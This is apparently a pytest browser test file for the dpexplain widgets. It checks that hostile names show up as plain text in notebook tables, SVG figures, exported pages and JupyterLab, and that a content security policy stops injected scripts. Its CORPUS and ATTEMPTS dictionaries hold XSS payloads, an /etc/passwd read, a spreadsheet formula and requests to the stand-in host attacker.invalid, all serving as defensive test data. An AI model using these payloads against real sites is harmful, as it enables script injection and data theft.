"""Hostile names in a real browser are shown as text; nothing runs or is requested."""

from __future__ import annotations

import io as text_io
import re
from dataclasses import replace
from html import escape
from xml.etree import ElementTree

import matplotlib.pyplot as plt
import nbformat
import numpy as np
import pandas as pd
import pytest

import dpexplain.io
import view_examples
from dpexplain import Categorical, Classes, Numeric, PrivacyLedger, Schema
from dpexplain.accounting.events import GaussianEvent, NonPrivateEvent
from dpexplain.compare import Comparison
from dpexplain.explain import GlobalExplanation, Guarantee, LocalExplanation, ShapeFunction
from dpexplain.models import DPExplainableBoostingClassifier
from dpexplain.plotting import (
    plot_comparison,
    plot_global,
    plot_importance,
    plot_local,
    plot_metric,
    plot_shape_function,
)
from dpexplain_widgets import Explorer, ImportanceView, LedgerView, OverviewView, ShapeView
from dpexplain_widgets.export.bundle import bundle, page_script
from dpexplain_widgets.export.page import content_policy, offline_page, state_of
from dpexplain_widgets.payload.packing import deflated
from dpexplain_widgets.state.state import STATE_TRAITS
from jupyter_lab import open_notebook, run_all_cells
from page_checks import settle

pytestmark = [pytest.mark.browser, pytest.mark.full]

# Each would announce itself in `window.stolen`, by a dialog, or at an address that does not exist.
CORPUS = {
    "image": "<img src=x onerror=\"window.stolen='image';alert(1)\">",
    "end of script": "</script><script>window.stolen='script'</script>",
    "end of title": "</title></style></textarea><script>window.stolen='title'</script>",
    "vector": "<svg/onload=\"window.stolen='svg'\"><animate onbegin=alert(1) attributeName=x>",
    "attribute": "\" autofocus tabindex=0 onfocus=\"window.stolen='focus'\" x=\"",
    "single quote": "' onmouseover='window.stolen=1' style='position:fixed;inset:0' x='",
    "template": "${window.stolen='template'} {{constructor.constructor('alert(1)')()}} `",
    "link": "<a href=\"javascript:window.stolen='link'\">press</a> javascript:alert(1)",
    "frame": "<iframe srcdoc=\"<script>parent.stolen='frame'</script>\"></iframe>",
    "network": "<img src=http://attacker.invalid/i><link rel=stylesheet href=//attacker.invalid>",
    "style": "<style>@import url(http://attacker.invalid/s); *{background:url(//attacker.invalid)}",
    "refresh": '<meta http-equiv=refresh content="0;url=http://attacker.invalid/r"><base href=//x>',
    "comment": "<!--><script>window.stolen='comment'</script>--> ]]><![CDATA[",
    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62; &amp;",
    "direction": "\u202enegnal\u202c \u2066left\u2069 \u0627\u0644\u0639\u0645\u0631 \u200f",
    "long": "x" * 10_000,
    "unbroken long": "<b>" * 3_000,
    "formula": r"$\input{/etc/passwd}$ $\frac{1}$ \href{javascript:alert(1)}{x}",
    "control": "nul\x00 bell\x07 escape\x1b[2J tab\t newline\n return\r delete\x7f",
    "emoji": "\U0001f9ea\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2028 \u2029 \ufeff",
    "spreadsheet": "=HYPERLINK(\"http://attacker.invalid\",\"x\") +1 -1 @SUM(A1)",
}  # fmt: skip

TWO = view_examples.EPSILONS[:2]
# Elements and attributes that no table, figure or view of ours has.
STRANGE = (
    "img:not([src^='data:image/png;base64,']), a[href], iframe, object, embed, link, base, form, "
    "input[type=image], foreignObject, animate, set, script:not([data-own]), "
    "meta[http-equiv=refresh], [autofocus], [srcdoc]"
)


def distinct(text: str, *others: str) -> tuple[str, ...]:
    return (text, *(f"{text} {each}" for each in others))


def hostile_shape(text: str, guarantee: Guarantee, kind: str = "categorical") -> ShapeFunction:
    """Make a term that contains the text wherever it has text."""
    words = {"unit": text, "description": text, "score_unit": text, "guarantee": guarantee}
    if kind == "numeric":
        return ShapeFunction(
            f"{text} n", kind, [0.5, -0.5, 0.1], [10.0, 5.0, 1.0], bin_edges=[0, 1, 2],
            special=("missing",), noise_std=[0.1] * 3, step=1.0, **words,
        )  # fmt: skip
    return ShapeFunction(
        text, kind, [1.0, -1.0, 0.1, 0.2], [9.0, 4.0, 1.0, 1.0],
        categories=distinct(text, "2"), special=("other", "missing"),
        noise_std=[0.1, 0.1, 0.2, 0.2], **words,
    )  # fmt: skip


def hostile_explanation(text: str, guarantee: Guarantee) -> GlobalExplanation:
    terms = (hostile_shape(text, guarantee), hostile_shape(text, guarantee, "numeric"))
    return GlobalExplanation(
        terms, -0.5, "logit", guarantee=guarantee, target_name=text, target_unit=text,
        classes=distinct(text, "2"), model_name=text,
    )  # fmt: skip


def hostile_guarantee(text: str, epsilon: float) -> Guarantee:
    plain = view_examples.guarantee(epsilon)
    if not plain.private:
        return Guarantee.not_private(text, unit=text, version=text)
    words = {"covers": text, "sampler": text, "version": text, "unit": text, "notes": (text,)}
    return replace(plain, **words)


def hostile_ledger(text: str) -> PrivacyLedger:
    ledger = PrivacyLedger(text, cap_epsilon=30.0)
    label = text[:9_000]
    ledger.charge([GaussianEvent(label, 4.0), GaussianEvent(label, 9.0, 3)], label=text)
    ledger.charge([NonPrivateEvent(label, label)], label=text)
    return ledger


def hostile_comparison(text: str) -> Comparison:
    fits = {
        epsilon: (hostile_explanation(text, hostile_guarantee(text, epsilon)),) for epsilon in TWO
    }
    rows = [(epsilon, 0, text, 0.75, False) for epsilon in (*TWO, np.inf)]
    return Comparison(
        TWO,
        fits,
        hostile_explanation(text, hostile_guarantee(text, np.inf)),
        pd.DataFrame(rows, columns=["epsilon", "repeat", "metric", "value", "private"]),
        ledger=hostile_ledger(text).summary(),
        title=text,
    )


def hostile_samples(text: str) -> LocalExplanation:
    return LocalExplanation(
        distinct(text, "2"), [[0.5, -0.5]], 0.1, "logit", bin_labels=((text, text),),
        guarantee=hostile_guarantee(text, 0.5), classes=distinct(text, "2"), target_name=text,
        target_unit=text,
    )  # fmt: skip


def hostile_schema(text: str) -> Schema:
    words = {"description": text}
    features = {
        text: Numeric(0, 1, unit=text, **words),
        f"{text} 2": Categorical([f"{text} a", f"{text} b"], **words),
    }
    target = Classes([f"{text} 0", f"{text} 1"], name=f"{text}?", **words)
    return Schema(features, target=target)


def html_of(text: str) -> list[str]:
    """Return the HTML that a notebook shows for objects that contain a given text."""
    comparison, ledger, schema = (
        hostile_comparison(text),
        hostile_ledger(text),
        hostile_schema(text),
    )
    explanation = comparison.explanations[TWO[0]][0]
    model = DPExplainableBoostingClassifier(schema=schema, ledger=ledger)
    shown = [
        comparison, comparison.reference, explanation, *explanation.terms, explanation.guarantee,
        comparison.reference.guarantee, hostile_samples(text), ledger, schema, model,
        comparison.frame(), explanation.frame(), explanation.importances().to_frame(),
        ledger.frame(),
    ]  # fmt: skip
    views = [kind(comparison) for kind in (Explorer, ImportanceView, OverviewView, ShapeView)]
    views += [LedgerView(ledger.summary()), Explorer(explanation), views[0]]
    views[-1].epsilon = float("inf")
    bundles = [view._repr_mimebundle_()[0]["text/html"] for view in views]
    return [*(each._repr_html_() for each in shown), *bundles]


@pytest.fixture
def watched(new_page, tmp_path):
    """Open HTML from a file; record every dialog, and every request except for the file."""

    def open_watched(html: str):
        path = tmp_path / "page.html"
        path.write_text(html, encoding="utf-8", errors="strict")
        page, noted = new_page(), []
        page.on("dialog", lambda dialog: (noted.append(dialog.message), dialog.dismiss()))
        page.on("framenavigated", lambda frame: noted.append(frame.url))
        page.route("**/*", lambda route: (noted.append(route.request.url), route.continue_()))
        page.goto(path.as_uri())
        return page, noted, path.as_uri()

    return open_watched


def assert_nothing_ran(page, noted, address) -> None:
    settle(page)
    assert page.evaluate("window.stolen") is None
    assert set(noted) == {address}
    names = page.evaluate(
        "Array.from(document.querySelectorAll(':not(.sk-top-container *)'),"
        " (e) => e.getAttributeNames()).flat()"
    )
    assert not [name for name in names if name.startswith("on")]


def page_of(parts: list[str]) -> str:
    """Put HTML into a page without a policy, as notebooks do with outputs they trust."""
    body = "".join(f"<section>{part}</section>" for part in parts)
    return f"<!doctype html><meta charset=utf-8><body>{body}</body>"


def start_of(text: str) -> str:
    """Return the beginning of a text as a page shows it, with rendered spaces."""
    visible = "".join(sign if sign.isprintable() else "\ufffd" for sign in text[:24])
    return " ".join(visible.split())


@pytest.mark.parametrize("name", CORPUS)
def test_tables_of_a_notebook_show_hostile_names_as_text(watched, name):
    parts = html_of(CORPUS[name])
    page, noted, address = watched(page_of(parts))
    assert_nothing_ran(page, noted, address)
    # The representation of a model is scikit-learn's, with a script and links of its own.
    own = page.locator("section:not(:has(.sk-top-container))")
    assert own.count() == len(parts) - 1
    assert own.locator(STRANGE).count() == 0
    if name not in ("control", "emoji", "direction"):
        for place in range(own.count()):
            assert start_of(CORPUS[name]) in " ".join(own.nth(place).text_content().split())


@pytest.mark.parametrize("name", CORPUS)
def test_figures_are_well_formed_pictures_that_show_hostile_names_as_text(watched, name):
    text = CORPUS[name]
    comparison = hostile_comparison(text)
    explanation = comparison.explanations[TWO[0]][0]
    draw = [
        lambda: plot_shape_function(explanation.terms[0]),
        lambda: plot_shape_function(explanation.terms[1]),
        lambda: plot_shape_function(comparison.reference.terms[0]),
        lambda: plot_importance(explanation),
        lambda: plot_global(explanation),
        lambda: plot_local(hostile_samples(text)),
        lambda: plot_comparison(comparison, term=text),
        lambda: plot_metric(comparison),
    ]
    pictures = []
    with plt.rc_context({"svg.fonttype": "none"}):
        for each in draw:
            drawn = each()
            figure = getattr(drawn, "figure", None) or np.ravel(drawn)[0].figure
            file = text_io.StringIO()
            figure.savefig(file, format="svg")
            plt.close("all")
            ElementTree.fromstring(file.getvalue())  # strict XML: NUL and loose brackets break it
            pictures.append(file.getvalue()[file.getvalue().index("<svg") :])
    page, noted, address = watched(page_of(pictures))
    assert_nothing_ran(page, noted, address)
    assert page.locator("svg").locator(STRANGE).count() == 0
    assert page.locator("section > svg").count() == len(draw)


def open_everything(page) -> None:
    """Visit every view: choose each term, read bins, unfold tables, scrub, hide the reference."""
    for place in range(page.locator(".dpx-term").count()):
        page.locator(".dpx-term").nth(place).click()
        page.locator(".dpx-plot").first.focus()
        page.keyboard.press("Home")
        page.keyboard.press("ArrowRight")
        page.locator(".dpx-term").nth(place).hover()
    for summary in page.locator(".dpx summary").all():
        if summary.is_visible():  # some lie in a part that this model does not show
            summary.click()
    page.evaluate("document.querySelectorAll('.dpx details').forEach((each) => (each.open = true))")
    page.locator(".dpx-scrubber").focus()
    for key in ("Home", "End", "r", "ArrowLeft"):
        page.keyboard.press(key)
    settle(page)


# The policy is a second wall: escaping has to hold without it as well.
CASES = [(name, False) for name in CORPUS] + [(name, True) for name in ("image", "network")]


@pytest.mark.parametrize(("name", "policy"), CASES)
def test_an_exported_page_shows_hostile_names_as_text(watched, name, policy):
    html = offline_page(
        [state_of(Explorer(hostile_comparison(CORPUS[name])), STATE_TRAITS)], title=CORPUS[name]
    )
    if not policy:
        html, n_removed = re.subn(r"<meta http-equiv=[^>]*>", "", html)
        assert n_removed == 1
    page, noted, address = watched(html)
    page.locator(".dpx-plot svg").first.wait_for()
    open_everything(page)
    assert_nothing_ran(page, noted, address)
    assert page.locator(".dpx").locator(STRANGE).count() == 0
    assert page.locator("script").count() == 2  # what unfolds the page, and its code
    if name not in ("control", "emoji", "direction"):
        shown = " ".join(page.locator(".dpx-terms").text_content().split())
        assert start_of(CORPUS[name])[:12] in shown


# --- the policy -------------------------------------------------------------------------------

ATTEMPTS = {
    "inline script": "const s = document.createElement('script'); s.text = 'window.stolen=1';"
    " document.body.append(s)",
    "evaluated text": "eval('window.stolen=1')",
    "markup from text": "document.body.innerHTML = '<img src=x onerror=window.stolen=1>'",
    "handler": "document.body.setAttribute('onclick', 'window.stolen=1'); document.body.click()",
    "picture": "new Image().src = 'http://attacker.invalid/i'",
    "request": "fetch('http://attacker.invalid/f').catch(() => {})",
    "beacon": "navigator.sendBeacon('http://attacker.invalid/b', 'x')",
    "style sheet": "document.head.append(Object.assign(document.createElement('link'),"
    " { rel: 'stylesheet', href: 'http://attacker.invalid/s' }))",
    "form": "const f = document.createElement('form'); f.action = 'http://attacker.invalid/f';"
    " document.body.append(f); f.submit()",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " { src: 'http://attacker.invalid/' }))",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_policy_of_an_exported_page_stops_a_script_that_got_in(browser, tmp_path, attempt):
    """Without the policy, the same attempt reaches its end."""
    script = f"onload = () => {{ try {{ {ATTEMPTS[attempt]} }} catch {{}} window.ran = 1 }};"
    page = offline_page([state_of(Explorer(view_examples.comparison()), STATE_TRAITS)])
    loader = re.search(r"<script>(.*)</script></body>", page, re.DOTALL)[1]
    # As if it were the first script of the page itself, so that its hash is in the policy.
    code = page_script(bundle("explorer.js"))
    policy, other = (escape(content_policy(each, code), quote=True) for each in (loader, script))
    assert policy in page
    taken_over = page.replace(loader, script).replace(policy, other)
    assert outcome_of(browser, tmp_path, taken_over) == []
    assert outcome_of(browser, tmp_path, taken_over.replace(other, "")) != []


def outcome_of(browser, folder, html: str) -> list[str]:
    """Return what a page should not have done: scripts run and requests made."""
    path = folder / "page.html"
    path.write_text(html, encoding="utf-8")
    page, reached = browser.new_page(), []
    page.route("http://**/*", lambda route: (reached.append(route.request.url), route.abort()))
    page.goto(path.as_uri())
    page.wait_for_timeout(300)  # what nothing announces cannot be waited for
    # A page that went to the attacker is gone, and has been seen to ask.
    stolen = [] if reached else page.evaluate("[window.stolen ?? []].flat()")
    page.close()
    return [*reached, *stolen]


def test_a_script_beside_the_one_of_the_page_does_not_run(browser, tmp_path):
    page = offline_page([state_of(Explorer(view_examples.comparison()), STATE_TRAITS)])
    injected = page.replace("</main>", "</main><script>window.stolen=1</script>")
    assert outcome_of(browser, tmp_path, injected) == []
    open_to_all = re.sub(r"<meta http-equiv=[^>]*>", "", injected)
    assert outcome_of(browser, tmp_path, open_to_all) == [1]


def test_code_that_is_not_the_code_of_the_page_does_not_run(browser, tmp_path):
    page = offline_page([state_of(Explorer(view_examples.comparison()), STATE_TRAITS)])
    folded = re.search(r'id="dpx-code" data-dpx-folded hidden>([^<]*)<', page)[1]
    other = page.replace(folded, deflated("window.stolen = 1;"))
    assert outcome_of(browser, tmp_path, other) == []
    assert outcome_of(browser, tmp_path, re.sub(r"<meta http-equiv=[^>]*>", "", other)) == [1]


IN_LAB = (
    "import dpexplain.io\nfrom dpexplain_widgets import Explorer\n"
    "comparison = dpexplain.io.load('hostile.json')",
    "explorer = Explorer(comparison)\nexplorer",
    "comparison",
    "comparison.reference",
    "comparison.explanations[comparison.epsilons[0]][0].terms[0].plot()",
)


def test_a_notebook_in_jupyterlab_shows_hostile_names_as_text(lab, new_page):
    text = " ".join(each for each in CORPUS.values() if len(each) < 1_000)
    dpexplain.io.save(hostile_comparison(text), lab.notebooks / "hostile.json")
    cells = [nbformat.v4.new_code_cell(source) for source in IN_LAB]
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    content = nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": kernel})
    nbformat.write(content, lab.notebooks / "hostile.ipynb")
    page, noted = new_page(width=1500, height=1500), []
    page.on("dialog", lambda dialog: (noted.append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: noted.append(request.url) if "attacker" in request.url else None,
    )
    open_notebook(page, lab, "hostile.ipynb")
    run_all_cells(page)
    page.locator(".dpx-plot svg").first.wait_for()
    open_everything(page)

    assert noted == []
    assert page.evaluate("window.stolen") is None
    outputs = page.locator(".jp-OutputArea-output")
    assert outputs.count() >= len(IN_LAB) - 1
    assert outputs.locator("iframe, [onerror], [onload], [onfocus], script").count() == 0
    assert page.locator(".dpx").locator(STRANGE).count() == 0
    assert start_of(text)[:12] in page.locator(".dpx-terms").text_content()
